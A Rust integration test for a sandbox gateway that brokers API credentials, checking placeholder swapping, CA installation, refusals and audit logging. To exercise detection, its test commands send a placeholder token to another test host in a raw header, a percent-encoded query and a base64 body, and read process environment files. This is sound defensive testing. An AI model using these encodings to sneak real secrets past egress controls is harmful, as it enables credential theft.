//! Egress credential brokering end to end: placeholders in a real Debian sandbox, the
//! egress CA that PID 1 installs (clients trust inspected hosts with no flag of their
//! own), the swap on the bound host, `credential_required`, and `placeholder_misuse`
//! toward another host in each encoding, with `block_and_kill` ending the exec.
//!
//! Loopback only: see [`super::egress_support`] for the test resolver and dialer.

use std::collections::HashMap;
use std::net::IpAddr;
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use beige_core::audit::AuditRecord;
use beige_core::{Admin, GatewayBuilder};
use serde_json::{json, Value};

use super::egress_support::*;
use super::support::TestHome;
use crate::docker_or_skip;

/// The host the placeholder credential is bound to.
const LLM: &str = "llm.example.test";
/// An allowed, inspected host no credential is for.
const OTHER: &str = "other.example.test";
/// The host of the `block_and_kill` credential.
const GH: &str = "gh.example.test";
const LLM_SECRET: &str = "sk-liveSecret0123456789abcdefXYZ";
const GH_SECRET: &str = "ghp_killSecret0123456789abcdef";

fn records(t: &TestHome, tool: &str) -> Vec<Value> {
    std::fs::read_to_string(t.home.audit_log_path())
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<AuditRecord>(l).ok())
        .filter(|r| r.tool == tool)
        .map(|r| serde_json::to_value(&r).unwrap())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn placeholders_are_swapped_on_their_host_and_refused_everywhere_else() {
    let env = docker_or_skip!();
    let t = TestHome::new();
    let docker = t.docker().await;
    if !debian_image(&t).await {
        return;
    }
    let upstream = tls_upstream_named(t.dir.path().to_path_buf(), &[LLM, OTHER, GH]).await;
    let public: IpAddr = PUBLIC_IP.parse().unwrap();
    let resolver = TestResolver(HashMap::from([
        (LLM, Ok(vec![public])),
        (OTHER, Ok(vec![public])),
        (GH, Ok(vec![public])),
    ]));
    let dialer = Arc::new(TestDialer {
        upstream: upstream.addr,
        unexpected: Mutex::new(Vec::new()),
    });
    let mut config = t.config(
        &env,
        &[(
            "net",
            json!({
                "sandbox": {"image": IMAGE, "memoryLimit": "256m"},
                "egress": {"rules": [
                    {"id": "llm", "hosts": [LLM]},
                    {"id": "gh", "hosts": [GH]},
                    // Request rules make it inspected, so the misuse scan sees it.
                    {"id": "other", "hosts": [OTHER], "methods": ["GET", "POST"]},
                ], "credentials": ["openai", "github"]},
            }),
        )],
    );
    let roots = t.home.root().join("upstream-ca.pem");
    std::fs::write(&roots, &upstream.ca_pem).unwrap();
    config.egress = Some(
        serde_json::from_value(json!({
            "credentials": {
                "openai": {
                    "secret": LLM_SECRET, "hosts": [LLM],
                    "placeholder": {"env": "OPENAI_API_KEY", "prefix": "sk-"},
                },
                "github": {
                    "secret": GH_SECRET, "hosts": [GH],
                    "placeholder": {"env": "GH_TOKEN"},
                    "violation": "block_and_kill",
                },
            },
            "tls": {"extraRoots": [roots.to_string_lossy()]},
        }))
        .unwrap(),
    );
    config.gateway.keep_sandboxes = false;
    let gw = GatewayBuilder::new(config, t.home.clone())
        .shim(&env.shim)
        .sandbox(Arc::new(docker.clone()))
        .egress_resolver(Arc::new(resolver))
        .egress_dialer(dialer.clone())
        .build()
        .await
        .unwrap();

    // PID 1 installed the CA: the bundle is the image's roots plus the beige CA, and the
    // clients are pointed at it.
    let ca = exec(
        &gw,
        "ls -l /beige/ca; grep -c 'BEGIN CERTIFICATE' /beige/ca/bundle.pem; \
         echo \"curl=$CURL_CA_BUNDLE node=$NODE_EXTRA_CA_CERTS\"; touch /beige/ca/x 2>&1; true",
    )
    .await;
    let home_ca = std::fs::read_to_string(t.home.root().join("keys/egress-ca.pem")).unwrap();
    let sandbox_ca = exec(&gw, "cat /beige/ca/beige-ca.pem").await;
    assert!(
        sandbox_ca.contains(home_ca.trim()),
        "{sandbox_ca}\n{home_ca}"
    );
    let roots_in_bundle: usize = ca
        .lines()
        .find_map(|l| l.trim().parse().ok())
        .unwrap_or_default();
    assert!(roots_in_bundle > 10, "the image's roots were merged: {ca}");
    assert!(
        ca.contains("curl=/beige/ca/bundle.pem node=/beige/ca/beige-ca.pem"),
        "{ca}"
    );
    assert!(
        ca.contains("Read-only") || ca.contains("Permission denied"),
        "{ca}"
    );

    // Each exec gets its own placeholder; none is the secret.
    let key = |out: String| {
        out.lines()
            .find_map(|l| l.strip_prefix("key="))
            .unwrap_or_default()
            .to_string()
    };
    let first = key(exec(&gw, "echo \"key=$OPENAI_API_KEY\"").await);
    let second = key(exec(&gw, "echo \"key=$OPENAI_API_KEY\"").await);
    assert!(first.starts_with("sk-bgph_"), "{first}");
    assert_ne!(first, second);
    let environ = exec(
        &gw,
        "cat /proc/self/environ /proc/1/environ 2>/dev/null | tr '\\0' '\\n'",
    )
    .await;
    assert!(
        !environ.contains(LLM_SECRET) && !environ.contains(GH_SECRET),
        "{environ}"
    );

    // 1. The bound host: the upstream gets the real key, the client the mask; curl and
    // Python trust the inspected host through the installed bundle, with no flag.
    let swapped = exec(
        &gw,
        &format!(
            "echo \"exec=$BEIGE_EXEC_ID\"; curl -sS --max-time 20 -H \"Authorization: Bearer $OPENAI_API_KEY\" https://{LLM}/v1/chat; echo \"rc=$?\""
        ),
    )
    .await;
    assert!(swapped.contains("rc=0"), "{swapped}");
    assert!(swapped.contains("hello from the upstream"), "{swapped}");
    assert!(!swapped.contains(LLM_SECRET), "{swapped}");
    assert!(
        swapped.contains(&format!(
            "authorization: Bearer {}",
            "*".repeat(LLM_SECRET.len())
        )),
        "{swapped}"
    );
    let exec_id = swapped
        .lines()
        .find_map(|l| l.strip_prefix("exec="))
        .unwrap()
        .to_string();
    let py = exec(
        &gw,
        &format!(
            "python3 -c \"import os, urllib.request as u; r = u.Request('https://{LLM}/py', headers={{'Authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']}}); print(u.urlopen(r, timeout=20).read().decode())\" 2>&1"
        ),
    )
    .await;
    assert!(py.contains("hello from the upstream"), "{py}");
    let heads = upstream.heads.lock().unwrap().clone();
    let llm_heads: Vec<&String> = heads.iter().filter(|h| h.contains(LLM)).collect();
    assert_eq!(llm_heads.len(), 2, "{heads:?}");
    for h in &llm_heads {
        assert!(
            h.contains(&format!("authorization: Bearer {LLM_SECRET}")),
            "{h}"
        );
        assert!(!h.contains("bgph_"), "{h}");
    }

    // 2. `require`: the client's own token on the bound host is refused.
    let own = exec(
        &gw,
        &format!("curl -sS -i --max-time 20 -H 'Authorization: Bearer sk-mine' https://{LLM}/v1/x"),
    )
    .await;
    assert!(own.contains("403"), "{own}");
    assert!(
        own.to_ascii_lowercase()
            .contains("x-beige-egress: denied; reason=credential_required"),
        "{own}"
    );

    // 3. Misuse: the placeholder toward another allowed host, in a header, in a
    // percent-encoded query and base64-encoded in a body, is refused before it leaves.
    let misuse = exec(
        &gw,
        &format!(
            "curl -sS -i --max-time 20 -H \"X-Key: $OPENAI_API_KEY\" https://{OTHER}/a; \
             q=$(printf %s \"$OPENAI_API_KEY\" | sed 's/_/%5F/'); \
             curl -sS -i --max-time 20 \"https://{OTHER}/b?k=$q\"; \
             printf '{{\"k\":\"%s\"}}' \"$OPENAI_API_KEY\" | base64 -w0 | \
             curl -sS -i --max-time 20 --data-binary @- https://{OTHER}/c"
        ),
    )
    .await;
    assert_eq!(
        misuse
            .to_ascii_lowercase()
            .matches("x-beige-egress: denied; reason=placeholder_misuse")
            .count(),
        3,
        "{misuse}"
    );
    let heads = upstream.heads.lock().unwrap().clone();
    assert!(
        !heads.iter().any(|h| h.contains(OTHER)),
        "a misused placeholder reached the upstream: {heads:?}"
    );

    // 4. block_and_kill: the exec that sent its placeholder astray is ended.
    let killed = exec(
        &gw,
        &format!(
            "curl -sS -o /dev/null --max-time 20 -H \"X-T: $GH_TOKEN\" https://{OTHER}/d; sleep 30; echo survived"
        ),
    )
    .await;
    assert!(!killed.contains("survived"), "{killed}");
    assert!(
        killed.contains("Exit code: 143") || killed.contains("Exit code: 137"),
        "{killed}"
    );

    // Audit: the swap names its exec; one misuse record per detection, with how the
    // placeholder was written, and never the token or a secret.
    let requests = records(&t, "egress.request");
    let llm: Vec<&Value> = requests
        .iter()
        .filter(|r| r["egress"]["host"] == LLM)
        .collect();
    assert!(
        llm.iter().any(|r| r["egress"]["substituted"] == true
            && r["egress"]["exec"] == exec_id.as_str()
            && r["egress"]["credential"] == "openai"),
        "{llm:?}"
    );
    assert!(
        llm.iter()
            .any(|r| r["egress"]["reason"] == "credential_required"),
        "{llm:?}"
    );
    // The kill's record is written once the kill is done, maybe after the exec's result.
    let mut misuses = records(&t, "security.egress_placeholder_misuse");
    for _ in 0..100 {
        if misuses.len() >= 4 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        misuses = records(&t, "security.egress_placeholder_misuse");
    }
    let shape: Vec<(String, String, bool)> = misuses
        .iter()
        .map(|r| {
            (
                r["egress"]["credential"].as_str().unwrap_or("").to_string(),
                r["egress"]["encoding"].as_str().unwrap_or("").to_string(),
                r["egress"]["killed"].as_bool().unwrap_or(false),
            )
        })
        .collect();
    assert_eq!(
        shape,
        [
            ("openai".into(), "raw".into(), false),
            ("openai".into(), "percent".into(), false),
            ("openai".into(), "base64".into(), false),
            ("github".into(), "raw".into(), true),
        ],
        "{misuses:?}"
    );
    for r in requests.iter().chain(&misuses) {
        assert!(
            !r.to_string().contains("bgph_"),
            "a placeholder is recorded: {r}"
        );
    }
    let audit = std::fs::read_to_string(t.home.audit_log_path()).unwrap();
    assert!(!audit.contains(LLM_SECRET) && !audit.contains(GH_SECRET));
    assert!(dialer.unexpected.lock().unwrap().is_empty());

    // Neither secret is in any byte of the container (inspect output, every process's
    // environment, its files) or of the home (audit log, logs, keys, run files).
    let container = gw.sandbox_status("net").await.unwrap().container;
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let (llm_b64, gh_b64) = (b64(LLM_SECRET), b64(GH_SECRET));
    super::egress_robust::assert_secret_absent(
        docker.client(),
        &container,
        &[t.home.root()],
        &[LLM_SECRET, GH_SECRET, &llm_b64, &gh_b64],
    )
    .await;
    gw.shutdown().await.unwrap();
}
